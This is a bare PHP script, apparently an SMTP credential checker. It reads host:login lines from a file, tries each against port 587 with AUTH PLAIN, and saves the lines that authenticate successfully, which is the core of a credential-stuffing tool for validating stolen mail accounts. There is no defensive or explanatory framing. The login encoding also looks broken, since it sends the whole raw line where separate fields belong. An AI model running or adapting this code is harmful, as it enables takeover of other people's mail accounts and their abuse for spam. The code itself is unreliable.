<?php
$in = fopen('accounts.txt', 'r');
$out = fopen('working.txt', 'a');
while (($line = fgets($in)) !== false) {
    $a = explode(':', trim($line));
    $s = stream_socket_client('tcp://' . $a[0] . ':587', $en, $es, 10);
    if (!$s) continue;
    fread($s, 512); fwrite($s, "EHLO x\r\n"); fread($s, 1024);
    fwrite($s, "AUTH PLAIN " . base64_encode("\0" . $line) . "\r\n");
    if (strpos(fread($s, 512), '235') === 0) fwrite($out, $line);
    fclose($s);
}
